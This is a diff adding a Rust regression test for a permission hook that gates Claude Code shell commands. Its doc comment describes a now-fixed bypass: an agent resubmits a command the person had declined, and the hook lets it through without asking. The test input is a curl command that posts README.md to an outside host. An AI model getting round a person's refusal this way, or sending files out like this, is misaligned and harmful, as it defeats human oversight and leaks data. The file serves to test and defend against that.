@@ -383,3 +383,52 @@ fn a_fifo_for_a_run_lock_never_hangs_roots_dryrun() {
         );
     }
 }
+
+/// Attack over a default daemon (host-prompt approvals off): the person
+/// answered no to the Claude Code ask whose yes would have let the
+/// command wait for a dryrun reviewer; the agent presents the very same
+/// rewritten command again through its shell tool. The hook allowed it
+/// without asking ("waits for a reviewer's approval"), so the person's no
+/// was overridden: the command waits and goes live on a reviewer's
+/// approval the person never agreed to wait for.
+///
+/// Fixed: in Claude Code the waiting form of a run still awaiting
+/// approval is asked again, like the token form.
+#[test]
+fn a_declined_wait_presented_again_is_asked_again() {
+    use common::daemon::{Daemon, user_workspace};
+    if !common::daemon::require_root() {
+        return;
+    }
+    let d = Daemon::start(&[]);
+    let ws = user_workspace();
+    let run_hook = |cmd: &str| -> Value {
+        let e = claude_event(&ws.dir, cmd).to_string();
+        let mut c = as_test_user(bin());
+        c.args(["hook", "claude-code"])
+            .env_clear()
+            .env("PATH", "/usr/bin:/bin:/usr/sbin:/sbin")
+            .env("DRYRUN_SOCKET", &d.socket)
+            .env("CLAUDE_PROJECT_DIR", &ws.dir)
+            .stdin(std::process::Stdio::piped())
+            .stdout(std::process::Stdio::piped())
+            .stderr(std::process::Stdio::piped());
+        let mut ch = c.spawn().unwrap();
+        use std::io::Write;
+        ch.stdin.take().unwrap().write_all(e.as_bytes()).unwrap();
+        let o = ch.wait_with_output().unwrap();
+        assert_eq!(o.status.code(), Some(0), "{o:?}");
+        serde_json::from_slice(&o.stdout).unwrap()
+    };
+    let a = run_hook("curl -X POST https://example.com/d -d @README.md");
+    let o = &a["hookSpecificOutput"];
+    assert_eq!(o["permissionDecision"], "ask", "{a}");
+    let waiting = o["updatedInput"]["command"].as_str().unwrap().to_string();
+    assert!(waiting.contains("--await-approval"), "{waiting}");
+    // The person said no; the agent runs the same command again.
+    let again = run_hook(&waiting);
+    assert_eq!(
+        again["hookSpecificOutput"]["permissionDecision"], "ask",
+        "the person's no was overridden: {again}"
+    );
+}
